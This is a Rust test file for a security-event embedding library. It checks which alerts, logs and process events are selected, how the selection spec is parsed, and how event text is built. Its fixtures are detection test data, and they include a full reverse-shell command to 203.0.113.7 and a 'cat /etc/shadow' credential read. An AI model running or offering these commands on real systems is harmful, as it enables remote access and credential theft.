//! Which events get a vector, and their text.

use chrono::Utc;
use vigil_embed::{text_for, Selection};
use vigil_event::{Event, Kind, Process, Severity};

fn event(kind: Kind, message: &str) -> Event {
    let mut e = Event::new(kind, "test", Utc::now(), message.as_bytes());
    e.message = message.to_string();
    e
}

#[test]
fn default_selects_security_events_and_skips_telemetry() {
    let sel = Selection::default();
    let mut alert = event(Kind::Alert, "Reverse shell spawned from web server process");
    alert.severity = Severity::Critical;
    let mut failure = event(Kind::Log, "sshd: Failed password for root from 203.0.113.7");
    failure.status_id = Some(2);
    let mut exec = event(Kind::Process, "process started by www-data");
    exec.process =
        Some(Process { cmdline: Some("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1".into()), ..Process::default() });
    let mut metric = event(Kind::Metric, "cpu 93%");
    metric.severity = Severity::Info;
    let network = event(Kind::Network, "nginx tcp 10.0.0.5:443 -> 10.0.0.9:51234 1200B/300B");
    let routine = event(Kind::Log, "CRON[1234]: session opened for user root");
    let mut loud = event(Kind::Network, "beacon to known C2");
    loud.severity = Severity::High;

    assert!(sel.selects(&alert));
    assert!(sel.selects(&failure));
    assert!(sel.selects(&exec));
    assert!(sel.selects(&loud));
    assert!(!sel.selects(&metric));
    assert!(!sel.selects(&network));
    assert!(!sel.selects(&routine));
}

#[test]
fn parse_reads_the_spec_and_names_bad_parts() {
    let sel = Selection::parse("kinds=alert, auth;min_severity=high;auth_failures=false").unwrap_or_default();
    assert_eq!(sel.kinds, vec![Kind::Alert, Kind::Auth]);
    assert_eq!(sel.min_severity, Severity::High);
    assert!(!sel.auth_failures);

    let empty = Selection::parse("").map(|s| s.kinds.len());
    assert_eq!(empty.ok(), Some(3));
    let none = Selection::parse("kinds=").map(|s| s.kinds.len());
    assert_eq!(none.ok(), Some(0));

    for (spec, names) in [
        ("kinds=alert,bogus", "bogus"),
        ("min_severity=extreme", "extreme"),
        ("auth_failures=maybe", "maybe"),
        ("colour=blue", "colour"),
        ("kinds", "kinds"),
    ] {
        match Selection::parse(spec) {
            Ok(s) => panic!("{spec:?} parsed as {s:?}"),
            Err(e) => assert!(e.to_string().contains(names), "{spec:?}: {e}"),
        }
    }
}

#[test]
fn text_is_message_plus_command_line_when_missing() {
    let mut e = event(Kind::Process, "process started by alice");
    assert_eq!(text_for(&e).as_deref(), Some("process started by alice"));
    e.process = Some(Process { cmdline: Some("cat /etc/shadow".into()), ..Process::default() });
    assert_eq!(text_for(&e).as_deref(), Some("process started by alice cat /etc/shadow"));
    e.message = "process started by alice: cat /etc/shadow".into();
    assert_eq!(
        text_for(&e).as_deref(),
        Some("cat /etc/shadow"),
        "a message that wraps the command line gives way to it"
    );
    e.message = "  ".into();
    assert_eq!(text_for(&e).as_deref(), Some("cat /etc/shadow"));
    e.process = None;
    assert_eq!(text_for(&e), None);
}
